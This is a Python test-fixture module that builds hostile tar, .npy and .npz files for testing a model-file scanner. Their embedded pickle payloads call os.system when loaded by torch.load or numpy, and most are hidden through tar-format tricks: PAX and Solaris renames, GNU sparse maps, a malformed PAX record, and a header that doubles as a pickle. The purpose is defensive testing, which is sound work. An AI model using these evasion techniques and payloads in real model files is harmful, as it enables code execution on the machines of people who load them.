"""Hostile files: tar, legacy, numpy, safetensors, ONNX and compressed containers.

Each builder writes a file whose payload runs under the loader named in its Case (proven by
tests/test_scan.py in a subprocess); CASES is appended to ``hostile.CASES``.

The tar cases hide torch's ``pickle`` member where only tarfile finds it (PAX/Solaris/GNU
sparse renames, a PAX record without its newline, a sparse map that moves the payload out of a
decoy's bytes); the last one is a tar whose first header is also a pickle, which torch.load
runs when tarfile gives up on the archive. The numpy cases spell the object dtype the ways
numpy accepts besides ``'|O'``.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from hostile import NONE, POP, STOP, Case, legacy_tar, os_system0, proto, shell

_BENIGN = pickle.dumps({"epoch": 3, "name": "legacy tar"}, 2)


def _evil(work: Path) -> bytes:
    return proto(2) + os_system0(work) + POP + NONE + STOP


def _append(path: Path, infos: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """Rewrite the legacy tar at ``path`` with extra members after the normal ones."""
    with tarfile.open(path) as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar.getmembers()]  # type: ignore[union-attr]
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members + infos:
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def b_tar_pax_path(work: Path) -> Path:
    # a member named notes.txt in its ustar header, renamed "pickle" by its PAX header: the last "pickle"
    info = tarfile.TarInfo("notes.txt")
    info.pax_headers = {"path": "pickle"}
    return _append(legacy_tar(work / "pax_path.tar"), [(info, _evil(work))])


def b_tar_gnu_sparse_name(work: Path) -> Path:
    info = tarfile.TarInfo("GNUSparseFile.0/readme")
    info.pax_headers = {"GNU.sparse.name": "pickle"}
    return _append(legacy_tar(work / "sparse_name.tar"), [(info, _evil(work))])


def _checksum(header: bytearray) -> None:
    header[148:156] = b" " * 8
    header[148:156] = b"%07o " % sum(header)   # no NUL: the field may sit inside a pickle string


def b_tar_solaris_x(work: Path) -> Path:
    # the same rename through a Solaris 'X' extended header
    path = b_tar_pax_path(work)
    data = bytearray(path.read_bytes())
    pos = 0
    while pos + 512 <= len(data):
        header = data[pos:pos + 512]
        if not header.strip(b"\0"):
            break
        size = tarfile.nti(bytes(header[124:136]))
        if header[156:157] == b"x" and b"path=pickle" in data[pos + 512:pos + 512 + size]:
            header[156:157] = b"X"
            _checksum(header)
            data[pos:pos + 512] = header
        pos += 512 + (size + 511) // 512 * 512
    out = work / "solaris_x.tar"
    out.write_bytes(bytes(data))
    return out


def b_tar_pax_no_newline(work: Path) -> Path:
    # a PAX record whose last byte is not a newline: Python < 3.11.10 / 3.12.6 still applies it
    path = legacy_tar(work / "pax_raw.tar")
    data = path.read_bytes().rstrip(b"\0")
    data += b"\0" * ((-len(data)) % 512)
    record = b"path=pickle!"
    record = b"%d %s" % (len(record) + 3, record)
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type, pax.size = tarfile.XHDTYPE, len(record)
    body = _evil(work)
    member = tarfile.TarInfo("notes.txt")
    member.size = len(body)
    blocks = (pax.tobuf(tarfile.USTAR_FORMAT) + record + b"\0" * ((-len(record)) % 512)
              + member.tobuf(tarfile.USTAR_FORMAT) + body + b"\0" * ((-len(body)) % 512))
    out = work / "pax_no_newline.tar"
    out.write_bytes(data + blocks + b"\0" * 1024)
    return out


def b_tar_sparse_map(work: Path) -> Path:
    # A sparse "pickle": stored contiguously its bytes are a decoy (the payload is inside a BINBYTES
    # string); rebuilt by the sparse map, a hole fills the string and the payload runs.
    hole = 64
    head = proto(2) + b"B" + struct.pack("<I", hole)
    payload = POP + os_system0(work) + STOP
    tail = payload + b"\0" * (hole - len(payload)) + POP + NONE + STOP if len(payload) < hole else b""
    if not tail:
        hole = len(payload) + 8
        head = proto(2) + b"B" + struct.pack("<I", hole)
        tail = payload + b"\0" * (hole - len(payload)) + POP + NONE + STOP
    stored = head + tail
    info = tarfile.TarInfo("GNUSparseFile.0/pickle")
    info.pax_headers = {"GNU.sparse.map": f"0,{len(head)},{len(head) + hole},{len(tail)}",
                        "GNU.sparse.size": str(len(head) + hole + len(tail)), "GNU.sparse.name": "pickle"}
    path = legacy_tar(work / "sparse.tar")
    with tarfile.open(path) as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar.getmembers() if m.name != "pickle"]  # type: ignore[union-attr]
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for m, data in [*members, (info, stored)]:
            m.size = len(data)
            tar.addfile(m, io.BytesIO(data))
    return path


def b_tar_header_pickle(work: Path) -> Path:
    """A tar whose first header is a pickle: ``cos\\nsystem\\n``, then one SHORT_BINUNICODE string
    spanning the header's text fields (the shell command, then ``#`` and the fields as a comment),
    then TUPLE1 REDUCE STOP in the link-name field. tarfile opens it; the next member is a GNU long
    name followed by garbage, so listing raises ReadError and torch.load reads the file as a pickle."""
    header = bytearray(b" " * 512)
    command = (shell(work) + " #").encode()
    start = len(b"cos\nsystem\n") + 2
    header[0:start] = b"cos\nsystem\n\x8c" + bytes([157 - start])
    header[start:start + len(command)] = command
    header[100:108] = b"00000644"           # mode, uid, gid: octal text without NULs
    header[108:116] = b"00000000"
    header[116:124] = b"00000000"
    header[124:136] = b"000000000000"       # size 0
    header[136:148] = b"000000000000"       # mtime
    header[156:157] = b"0"
    header[157:160] = b"\x85R."
    header[160:257] = b"\0" * 97
    header[257:265] = b"ustar\x0000"
    header[265:512] = b"\0" * 247
    _checksum(header)
    longname = tarfile.TarInfo("././@LongLink")
    longname.type, longname.size = tarfile.GNUTYPE_LONGNAME, 10
    data = bytes(header) + longname.tobuf(tarfile.GNU_FORMAT) + b"pickle\0\0\0\0" + b"\0" * 502 + b"\x01" * 512
    out = work / "header_pickle.tar"
    out.write_bytes(data + b"\0" * 1024)
    return out


# --- numpy ---------------------------------------------------------------------------------------

def npy(descr: object, payload: bytes) -> bytes:
    """An ``.npy`` file (version 1.0) of dtype ``descr``, shape (1,), followed by ``payload``."""
    header = ("{'descr': " + repr(descr) + ", 'fortran_order': False, 'shape': (1,), }").encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


_SPELLINGS = {"object": "object", "subarray": "(1,)O", "struct": "i4,O"}


def _npy_builder(kind: str, spelling: str) -> Callable[[Path], Path]:
    def build(work: Path) -> Path:
        data = npy(_SPELLINGS[spelling], proto(2) + os_system0(work) + STOP)
        if kind == "npy":
            out = work / f"dtype_{spelling}.npy"
            out.write_bytes(data)
            return out
        out = work / f"dtype_{spelling}.npz"
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("arr.npy", data)
        return out
    build.__name__ = f"b_{kind}_{spelling}"
    return build


CASES: tuple[Case, ...] = (
    Case("tar-pax-path-pickle", b_tar_pax_path, "torch"),
    Case("tar-gnu-sparse-name", b_tar_gnu_sparse_name, "torch"),
    Case("tar-solaris-x-header", b_tar_solaris_x, "torch"),
    Case("tar-pax-record-no-newline", b_tar_pax_no_newline, "torch"),
    Case("tar-sparse-map-moves-payload", b_tar_sparse_map, "torch"),
    Case("tar-header-also-pickle", b_tar_header_pickle, "torch"),
    *(Case(f"{kind}-dtype-{spelling}", _npy_builder(kind, spelling), "numpy")
      for kind in ("npy", "npz") for spelling in _SPELLINGS),
)
